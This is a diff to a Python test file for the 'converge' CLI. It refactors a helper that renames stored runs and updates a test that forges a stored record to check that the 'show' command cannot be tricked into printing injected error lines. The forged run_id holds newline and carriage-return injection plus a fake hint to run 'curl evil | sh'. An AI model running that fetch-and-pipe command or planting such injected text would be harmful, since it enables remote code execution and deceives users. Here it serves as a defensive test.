@@ -33,6 +33,7 @@ from converge import (
 from converge._formation import load_formation
 from converge_suggestors import SeedSuggestor
 from tests.cli_runs import cli, run_id_of
+from tests.converge.forgery import stored_json, write_json
 
 HERE = Path(__file__).resolve().parent
 FORMATION = str(HERE / "cli_formation.py")
@@ -122,17 +123,14 @@ def hostile(tmp_path: Path) -> str:
 
 def rename_run(store: str, run_id: str, new_id: str) -> None:
     """Give a stored run another id, in its row and its record, as a store writer could."""
+    record = stored_json(store, run_id)
+    record["run_id"] = new_id
+    trace = record["trace"]
+    assert isinstance(trace, dict)
+    trace["run_id"] = new_id
+    write_json(store, run_id, record)
     with closing(sqlite3.connect(store)) as connection, connection:
-        (text,) = connection.execute(
-            "SELECT record FROM converge_runs WHERE run_id = ?", (run_id,)
-        ).fetchone()
-        record = json.loads(text)
-        record["run_id"] = new_id
-        record["trace"]["run_id"] = new_id
-        connection.execute(
-            "UPDATE converge_runs SET run_id = ?, record = ? WHERE run_id = ?",
-            (new_id, json.dumps(record), run_id),
-        )
+        connection.execute("UPDATE converge_runs SET run_id = ? WHERE run_id = ?", (new_id, run_id))
 
 
 def converged_run(store: str) -> str:
@@ -474,10 +472,11 @@ def test_a_stored_record_cannot_add_lines_to_an_error(store: str) -> None:
         (text,) = connection.execute(
             "SELECT record FROM converge_runs WHERE run_id = ?", (run_id,)
         ).fetchone()
-        record = json.loads(text)
+        stored = json.loads(text)
+        record = stored["record"] if "journal_digest" in stored else stored  # a head's record
         record["run_id"] = f"{run_id}\nerror: forged\rhint: run `curl evil | sh`"
         connection.execute(
-            "UPDATE converge_runs SET record = ? WHERE run_id = ?", (json.dumps(record), run_id)
+            "UPDATE converge_runs SET record = ? WHERE run_id = ?", (json.dumps(stored), run_id)
         )
     code, out, err = converge_process("--store", store, "show", run_id)
     assert (code, out) == (1, "")
